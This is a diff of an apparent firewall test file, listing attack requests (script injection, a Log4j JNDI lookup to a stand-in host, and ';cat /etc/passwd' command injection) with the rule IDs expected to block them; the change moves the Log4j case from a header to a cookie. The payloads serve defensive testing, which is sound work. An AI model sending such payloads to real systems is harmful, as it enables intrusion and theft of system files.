@@ -80,7 +80,8 @@ const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
   ['a script', get(`/?q=${encoded('<script>alert(1)</script>')}`), /^941/],
   ['an event handler', get(`/?q=${encoded('<img src=x onerror=alert(1)>')}`), /^941/],
   ['log4j in a query', get(`/?x=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
-  ['log4j in a header', get('/', 'Referer: $' + '{jndi:ldap://a.example/b}'), /^9(32130|44150)$/],
+  // The core rule set of Debian looks for it in arguments and cookies alone.
+  ['log4j in a cookie', get('/', `Cookie: a=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
   ['a command', get(`/?c=${encoded(';cat /etc/passwd')}`), /^93[02]/],
 ];
 
